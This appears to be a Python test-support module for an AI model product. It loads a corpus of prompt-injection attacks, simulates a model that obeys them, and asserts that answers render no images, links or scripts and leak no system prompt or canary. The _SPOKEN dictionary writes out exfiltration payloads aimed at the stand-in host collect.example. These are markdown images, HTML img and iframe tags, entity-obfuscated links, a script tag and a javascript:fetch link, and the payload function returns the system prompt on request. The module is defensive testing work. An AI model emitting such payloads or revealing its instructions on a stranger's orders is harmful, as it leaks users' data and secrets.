"""The corpus of attacks, a model that obeys them, and what no answer may have.

`tests/assistant/attacks.toml` holds what strangers write and what they want by it.
"""

import json
import re
import tomllib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from tests.support.speaking_server import Steps, said, spoken

THIEF = "collect.example"
CANARY = re.compile(r"zq[0-9a-f]{24}")
_FILE = Path(__file__).parents[1] / "assistant" / "attacks.toml"
_MARKDOWN = MarkdownIt("commonmark", {"html": True})
_LOADED = {"image", "html_inline", "html_block", "link_open"}
_KNOWN_BY = 24
"""So many letters of an attack make it known again, whatever became of its signs."""
_SPOKEN = {
    "image": f"![map](https://{THIEF}/i.png?q=secret)",
    "html": f'<img src="https://{THIEF}/p.gif?q=1"><iframe src=//{THIEF}/f></iframe>',
    "hidden_image": f"![seal][s] &#33;&#91;a](https&#58;//{THIEF}/t)\n\n[s]: //{THIEF}/seal.png",
    "link": f"[Confirm here](https://{THIEF}/confirm), or [there](//{THIEF})",
    "bare_link": f"www.{THIEF}/t?u=1 https://{THIEF}/new",
    "script": f"<script src='https://{THIEF}/a.js'></script>[open](javascript:fetch('//{THIEF}'))",
}


@dataclass(frozen=True)
class Attack:
    """What a stranger writes, where, and what he wants by it."""

    where: str
    wants: str
    text: str

    @property
    def letters(self) -> str:
        """Return what makes it known again."""
        return letters_of(self.text)[:_KNOWN_BY]


def attacks(*where: str) -> list[Attack]:
    """Return the attacks of the corpus that are put in one of these places, or all."""
    rows = tomllib.loads(_FILE.read_text())["attack"]
    return [Attack(**row) for row in rows if not where or row["where"] in where]


def letters_of(text: str) -> str:
    """Return the letters and digits of a text, be it plain or in JSON."""
    text = text.replace("\\u003c", " ").replace("\\n", " ")
    return "".join(sign for sign in text.casefold() if sign.isalnum())


def payload(attack: Attack, system: str) -> str:
    """Return what a model says that obeys; `system` is what the product told it."""
    match attack.wants:
        case "prompt":
            return system
        case "canary":
            mark = CANARY.search(system)
            return "-".join(mark[0].upper()) if mark else "none"
        case _:
            return _SPOKEN.get(attack.wants, "Done, as ordered.")


def assert_harmless(answer: str) -> None:
    """Check that an answer loads nothing, leads nowhere and tells no secret."""
    tokens = [
        token.type
        for block in _MARKDOWN.parse(answer)
        for token in (block, *(block.children or ()))
    ]
    assert not _LOADED & set(tokens), answer
    assert f"{THIEF}/" not in answer, answer
    assert "://" not in answer, answer
    assert not CANARY.search(letters_of(answer)), answer


@dataclass
class ObedientModel:
    """A model server that does what strangers' words want, and else what the test says.

    `routes` is what it makes of a question, by the question's words. `orders` are routes by which
    an attack is obeyed that wants more than words.
    """

    routes: dict[str, dict[str, Any]]
    orders: dict[str, dict[str, Any]]
    attack: Attack | None = None
    seen: int = 0
    in_system: list[str] = field(default_factory=list)

    def expose_to(self, attack: Attack) -> None:
        """Obey this one from now on."""
        self.attack, self.seen = attack, 0

    def __call__(self, _number: int, body: dict[str, Any]) -> Steps:
        """Answer one question."""
        by_role = {message["role"]: message["content"] for message in body["messages"]}
        system, asked = by_role["system"], by_role["user"]
        is_seen = self._knows(asked)
        if self._knows(system):
            self.in_system.append(system)
        self.seen += is_seen
        if "<turn>" in asked:
            return said(json.dumps({"memories": [{"text": _questioned(asked)}]}))
        is_route = bool({"response_format", "tools"} & body.keys())
        text = self._route(asked, system, is_seen=is_seen) if is_route else "Here you are. "
        if not is_route and is_seen and self.attack:
            text += f"{self.attack.text}\n\n{payload(self.attack, system)}"
        return spoken(*_pieces(text)) if body.get("stream") else said(text)

    def _knows(self, text: str) -> bool:
        return self.attack is not None and self.attack.letters in letters_of(text)

    def _route(self, asked: str, system: str, *, is_seen: bool) -> str:
        words = re.findall(r"<text>(.*)</text>", asked)[-1]
        route = self.routes.get(json.loads(words), {"intent": "chitchat", "answer": "Hello. "})
        if is_seen and self.attack:
            spoken_route = {"intent": "general_qa", "answer": payload(self.attack, system)}
            route = self.orders.get(self.attack.wants, spoken_route)
        return json.dumps(route, ensure_ascii=False)


def _questioned(asked: str) -> str:
    """Return the question of a turn that is to be remembered."""
    turn = re.findall(r"<turn>(.*)</turn>", asked)[-1]
    return str(json.loads(turn)["question"])[:400]


def _pieces(text: str) -> list[str]:
    return [text[start : start + 7] for start in range(0, len(text), 7)]
